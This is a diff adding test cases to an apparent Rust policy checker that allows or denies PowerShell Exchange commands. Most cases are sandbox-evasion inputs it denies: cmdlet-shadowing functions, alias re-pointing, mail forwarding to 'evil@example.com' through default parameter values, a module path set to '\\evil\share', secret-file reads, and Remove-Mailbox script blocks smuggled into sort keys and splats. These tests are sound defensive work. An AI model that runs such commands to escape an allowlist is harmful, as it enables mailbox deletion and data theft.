@@ -562,6 +562,243 @@ const CASES: &[(&str, Want, &str)] = &[
     ),
     ("", Allow, "empty line"),
     ("# just a comment", Allow, "comment line"),
+    // --- definitions and assignments that change the session ------------------------------
+    (
+        "function Get-Mailbox { param($Filter) Get-Recipient | Sort-Object -Property $Filter }; Get-Mailbox -Filter { Remove-Mailbox rob }",
+        Deny,
+        "a function shadowing a cmdlet turns its OPATH data block into code",
+    ),
+    (
+        "function global:Get-Mailbox { param($Filter) Sort-Object -Property $Filter }",
+        Deny,
+        "a shadowing function outlives the line",
+    ),
+    (
+        "filter fl { $_ }",
+        Deny,
+        "a filter shadowing an alias",
+    ),
+    (
+        "function prompt { 'x' }",
+        Deny,
+        "a host hook runs after every line",
+    ),
+    (
+        "${function:Get-Mailbox} = 'Remove-Mailbox rob'; Get-Mailbox",
+        Deny,
+        "function drive: a function made from text",
+    ),
+    (
+        "$alias:fl = 'Remove-Mailbox'; 'rob' | fl",
+        Deny,
+        "alias drive: re-pointing an allowed alias",
+    ),
+    (
+        "${alias:fl} = 'Remove-Mailbox'; 'rob' | fl",
+        Deny,
+        "alias drive, braced",
+    ),
+    (
+        "$PSDefaultParameterValues['Set-Mailbox:ForwardingSmtpAddress'] = 'evil@example.com'",
+        Deny,
+        "default parameter values add a forwarding address to later Set-Mailbox calls",
+    ),
+    (
+        "$PSDefaultParameterValues = @{ 'Set-Mailbox:ForwardingSmtpAddress' = 'evil@example.com' }",
+        Deny,
+        "default parameter values, whole table",
+    ),
+    (
+        "$h = Get-Variable PSDefaultParameterValues -ValueOnly; $h['Set-Mailbox:ForwardingSmtpAddress'] = 'e@x.com'",
+        Deny,
+        "default parameter values through another variable",
+    ),
+    (
+        "foreach ($PSDefaultParameterValues in , @{ 'Set-Mailbox:ForwardingSmtpAddress' = 'e@x.com' }) { }",
+        Deny,
+        "default parameter values as a loop variable",
+    ),
+    (
+        "${C:\\Users\\admin\\Documents\\profile.ps1} = 'Remove-Mailbox rob'",
+        Deny,
+        "file written through a variable",
+    ),
+    (
+        "$x = ${C:\\secrets.txt}",
+        Deny,
+        "file read through a variable",
+    ),
+    (
+        "$env:PSModulePath = '\\\\evil\\share'",
+        Deny,
+        "module path: later auto-loading runs a planted module",
+    ),
+    (
+        "function Get-MyReport { Get-Mailbox | Select-Object Name }; Get-MyReport",
+        Allow,
+        "a new read-only helper function",
+    ),
+    (
+        "$ErrorActionPreference = 'Stop'; Write-Host $env:TEMP",
+        Allow,
+        "preference variables and environment reads",
+    ),
+    // --- redirections are Out-File ---------------------------------------------------------
+    (
+        "Write-Output 'Remove-Mailbox rob' > $profile",
+        NotAllow,
+        "redirection plants a profile script",
+    ),
+    (
+        "Get-Mailbox > C:\\Windows\\System32\\x.ps1",
+        NotAllow,
+        "redirection to a file outside the reports folder",
+    ),
+    (
+        "Get-Mailbox *>> C:\\Reports\\..\\x.ps1",
+        NotAllow,
+        "appending redirection of all streams, path escaping the reports folder",
+    ),
+    (
+        "'x' | Write-Output 3> x.txt",
+        NotAllow,
+        "redirection of another stream",
+    ),
+    (
+        "Get-Mailbox | Format-List > C:\\Reports\\mailboxes.txt",
+        Allow,
+        "text report into the reports folder",
+    ),
+    (
+        "Get-Mailbox 2>&1 > $null",
+        Allow,
+        "stream merge and discarding write no file",
+    ),
+    // --- comments that are statements -------------------------------------------------------
+    ("#requires -Modules EvilModule", Deny, "#requires can load a module"),
+    (
+        "Get-Mailbox #Requires -RunAsAdministrator",
+        Deny,
+        "#requires after a command",
+    ),
+    ("Get-Mailbox # requires nothing", Allow, "an ordinary comment"),
+    // --- script blocks from outside the line reaching code-running parameters --------------
+    (
+        "Get-Mailbox rob | Sort-Object -Property ${function:Remove-Mailbox}",
+        Deny,
+        "a proxy function's body as a sort key",
+    ),
+    (
+        "Get-Mailbox rob | Sort-Object (Get-Command Remove-Mailbox).ScriptBlock",
+        Deny,
+        "a command's script block as a positional sort key",
+    ),
+    (
+        "$sb = (Get-Command Remove-Mailbox).ScriptBlock; Get-Mailbox rob | Select-Object @{ n = 'x'; e = $sb }",
+        Deny,
+        "calculated property expression from a variable",
+    ),
+    (
+        "$sb = (Get-Command Remove-Mailbox).ScriptBlock; Get-Mailbox rob | Get-MailboxStatistics -Identity $sb",
+        Deny,
+        "delay-bind parameter given a script block variable",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; Get-Mailbox rob | Format-Table -GroupBy $sb",
+        Deny,
+        "format grouping expression from a variable",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; 'rob' -replace 'r', $sb",
+        Deny,
+        "-replace with a script block replacement",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; 'rob' -split $sb",
+        Deny,
+        "-split with a script block predicate",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; switch ('rob') { $sb { 1 } }",
+        Deny,
+        "switch pattern from a variable",
+    ),
+    (
+        "Get-Mailbox | Select-Object Name, @{ n = 'Size'; e = { $_.ProhibitSendQuota } } | Sort-Object Size -Descending",
+        Allow,
+        "literal calculated properties",
+    ),
+    (
+        "Get-Mailbox | Get-MailboxStatistics -Identity { $_.Alias }",
+        Allow,
+        "literal delay-bind block",
+    ),
+    (
+        "switch ('a') { 'a' { 1 } { $_ -eq 'b' } { 2 } default { 3 } }; 'a,b' -split ','",
+        Allow,
+        "literal switch patterns and split",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; $p = @{ Property = $sb }; Get-Mailbox | Sort-Object @p",
+        Deny,
+        "splatted property expression",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; $p = @{ FilterScript = $sb }; Get-Mailbox | Where-Object @p",
+        Deny,
+        "splatted script block parameter",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; $p = @{ Identity = $sb }; Get-Mailbox | Get-MailboxStatistics @p",
+        Deny,
+        "splatted delay-bind value",
+    ),
+    (
+        "Get-Mailbox | Sort-Object @PSBoundParameters",
+        Deny,
+        "unknown splat into a command with code-running parameters",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; Get-Mailbox | Where-Object $sb",
+        Deny,
+        "positional argument the binder gives to -FilterScript by type",
+    ),
+    (
+        "$sb = (gcm Remove-Mailbox).ScriptBlock; Get-Mailbox rob | New-TimeSpan -Start $sb",
+        Deny,
+        "delay-bind into a command without metadata",
+    ),
+    (
+        "$p = @{ Identity = 'rob' }; Get-Mailbox @p | Sort-Object Name",
+        Allow,
+        "literal splat into a read",
+    ),
+    (
+        "([regex]'r').Replace('rob', (Get-Command Remove-Mailbox).ScriptBlock)",
+        Deny,
+        "a safe-listed method whose delegate overload runs a script block argument",
+    ),
+    (
+        "$t = 'a<b'; $t.Replace('<', '_')",
+        Allow,
+        "Replace with literal arguments",
+    ),
+    (
+        "function Get-Mai`lbox { param($Filter) 1 }",
+        Deny,
+        "backtick escape in a shadowing function name",
+    ),
+    ("filter `F`l { $_ }", Deny, "backticks in a shadowing filter name"),
+    (
+        "Write-Output @{ 'Set-Mailbox:ForwardingSmtpAddress' = 'e@x.com' } -PipelineVariable PSDefaultParameterValues | Get-Mailbox",
+        Deny,
+        "default parameter values set by a common parameter",
+    ),
+    (
+        "Get-Mailbox -OutVariable mbx -ErrorVariable +err",
+        Allow,
+        "ordinary output variables",
+    ),
 ];
 
 fn shipped() -> PolicySet {
